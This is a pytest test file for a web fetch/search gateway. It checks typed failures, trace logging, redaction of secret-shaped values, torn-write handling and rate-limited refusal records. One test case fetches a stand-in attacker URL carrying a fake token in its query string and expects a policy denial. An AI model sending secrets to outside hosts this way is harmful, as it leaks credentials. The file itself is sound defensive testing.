"""What the door answers and records: failures with a type, nothing that has the shape of a secret."""

from __future__ import annotations

import asyncio
import json
import os
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import IO, Any, Literal

import msgspec
import pytest

from infra.keep.allowance import Allowance
from infra.keep.door_server import Caller, Refusal
from infra.keep.settings.schema import WebSettings
from infra.keep.web_door.app import REQUESTS, WebDoor, failure_of
from infra.keep.web_door.judge import Judge
from infra.keep.web_door.trace import Trace, TraceLine
from infra.keep.web_door.worker import Readers
from infra.shared.door import Failure, Health, Healthy
from infra.shared.web import Fetch, Search
from tests.keep.web_door.sites import NAMED, Site, Wire, fetcher, page

KEY = "ghp_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"  # has the shape of a secret, and is none
FOUND = page(b'{"results": [{"url": "https://a.example/", "title": "A"}]}', kind="application/json")


async def silent(wire: Wire) -> None:
    await wire.left.wait()


closing: list[IO[bytes]] = []


class Door:
    """A door, a site, and what came of each request: an answer or a failure."""

    def __init__(self, folder: Path, site: Site, search_url: str | None = None, most_bytes: int = 1 << 20) -> None:
        self.path = folder / "trace"
        self._file = self.path.open("ab")
        closing.append(self._file)
        self.left = 0
        made = WebDoor(
            WebSettings(search_url=search_url),
            Judge(NAMED),
            fetcher(seconds=0.5),
            Readers(),
            Trace(self._file.fileno(), self._leave, most_bytes=most_bytes),
        )
        self._answer = made.answer

    def _leave(self) -> None:
        self.left += 1

    async def ask(self, request: Fetch | Search | Health) -> Any:
        try:
            return await self._answer(request, Caller(1, 7, asyncio.get_running_loop().create_future()))
        except Refusal as refusal:
            return refusal.failure

    def lines(self) -> list[TraceLine]:
        return [msgspec.json.decode(line, type=TraceLine) for line in self.path.read_bytes().splitlines()]


def played(act: Callable[[Site], Awaitable[None]], **pages: Any) -> None:
    async def play() -> None:
        async with Site({f"/{name}": each for name, each in pages.items()}).running() as site:
            await act(site)

    asyncio.run(play())
    while closing:
        closing.pop().close()


def test_each_failure_has_its_type_and_its_line(tmp_path: Path) -> None:
    async def act(site: Site) -> None:
        door, here = Door(tmp_path, site), f"http://site.example:{site.port}"
        cases: list[tuple[Fetch | Search, str, str, tuple[str, ...]]] = [
            (Fetch(f"ftp://a.example/{KEY}"), "validation_error", "error", ()),
            (Fetch("http://10.0.0.1/"), "policy_denied", "denied", ("private_address",)),
            (Fetch(f"{here}/page", raw=True), "policy_denied", "denied", ("raw_html",)),
            (Fetch(f"https://evil.example/?k={KEY}"), "policy_denied", "denied", ("outgoing",)),
            (Fetch(f"{here}/silent"), "tool_timeout", "error", ()),
            (Fetch("http://site.example:1/"), "execution_error", "error", ()),
            (Search("kettles"), "tool_unavailable", "error", ()),
        ]
        for request, kind, status, flags in cases:
            failure = await door.ask(request)
            line = door.lines()[-1]
            assert (failure.type, line.error_code, line.status) == (kind, kind, status)
            assert line.policy_flags == flags or kind == "execution_error"
            assert KEY not in f"{failure} {line}"
            assert failure.retriable is (kind in ("tool_timeout", "execution_error"))
        assert len(door.lines()) == len(cases)
        assert line.uid == 7
        assert await door.ask(Health()) == Healthy()
        assert len(door.lines()) == len(cases)

    played(act, silent=silent, page=page())


def test_what_was_served_is_on_record(tmp_path: Path) -> None:
    """Under the final address, redacted; the same arguments have the same hash."""

    async def act(site: Site) -> None:
        here = f"http://site.example:{site.port}"
        door = Door(tmp_path, site, f"{here}/found")
        for run in ("a", "b"):
            picture = await door.ask(Fetch(f"{here}/picture", run=run, step="3"))
            assert "Left out: the body, which is no text: image/png" in picture.text
        found = await door.ask(Search("kettles"))
        assert found.results == 1
        first, second, search = door.lines()
        assert (first.status, first.run_id, first.step_id, first.origin, first.url) == (
            *("ok", "a", "3", here, f"{here}/picture"),
        )
        assert (first.policy_flags, first.size) == (("rule 1", "not_read"), 0)
        assert first.args_hash == second.args_hash != search.args_hash
        assert (search.tool_name, search.artifacts[0][:7]) == ("web_search", "sha256:")
        assert (await door.ask(Search(f"what is {KEY}"))).type == "policy_denied"

    played(act, picture=page(b"\x89PNG", kind="image/png"), found=FOUND)


def test_a_door_that_has_recorded_enough_leaves(tmp_path: Path) -> None:
    async def act(site: Site) -> None:
        door = Door(tmp_path, site, most_bytes=300)
        for _ in range(2):
            await door.ask(Search("kettles"))
        assert (door.left, len(door.lines())) == (1, 2)

    played(act)


@pytest.mark.parametrize(
    "line",
    [
        *(b"\xff", b"[" * 60_000, b"{}", b'{"do": "fetch"}', b'{"do": "other", "url": "x"}'),
        *(b'{"do": "fetch", "url": "x", "max_chars": 1}', b'{"do": "search", "query": ""}'),
    ],
)
def test_requests_that_are_none(line: bytes) -> None:
    with pytest.raises((msgspec.MsgspecError, UnicodeDecodeError, RecursionError)) as error:
        msgspec.json.decode(line, type=REQUESTS)
    failure = failure_of(error.value)
    assert (failure.type, failure.retriable) == ("validation_error", False)
    assert "fetch, search or health" in failure.hint


def test_a_bug_is_told_without_its_words() -> None:
    assert failure_of(RuntimeError(KEY)) == Failure(
        "tool_unavailable", "the web door has a bug: RuntimeError; see its log", True
    )


def test_a_torn_line_harms_no_other() -> None:
    """A write that fails in the middle: the next line stands by itself."""
    line = TraceLine("at", "", "", "fetch_page", "", 1, "ok")
    read, write = os.pipe()
    os.set_blocking(write, False)
    os.write(write, b"x" * 65500)
    trace = Trace(write, lambda: None)
    with pytest.raises(BlockingIOError):
        trace.write(line)
    os.read(read, 1 << 20)
    with pytest.raises(OSError, match="Invalid argument"):  # a pipe cannot be synced
        trace.write(line)
    assert os.read(read, 1 << 20) == b"\n" + msgspec.json.encode(line) + b"\n"
    for each in (read, write):
        os.close(each)


def line(status: Literal["ok", "denied"]) -> TraceLine:
    return TraceLine("", "", "", "fetch_page", "", 0, status)


def test_refusals_in_a_row_wait_for_their_lines(tmp_path: Path) -> None:
    """A few are told at once; more would fill the file. What is served waits for none of them."""

    async def play(trace: Trace) -> None:
        async with asyncio.timeout(20):
            for _ in range(2):
                await trace.record(line("denied"))
            refused = [asyncio.create_task(trace.record(line("denied"))) for _ in range(3)]
            await asyncio.sleep(0)
            await trace.record(line("ok"))
            assert not any(each.done() for each in refused)
            await asyncio.gather(*refused)

    with (tmp_path / "web.jsonl").open("ab") as file:
        asyncio.run(play(Trace(file.fileno(), lambda: None, Allowance(2, 0.5))))
    written = [json.loads(each)["status"] for each in (tmp_path / "web.jsonl").read_text().splitlines()]
    assert written == ["denied", "denied", "ok", "denied", "denied", "denied"]
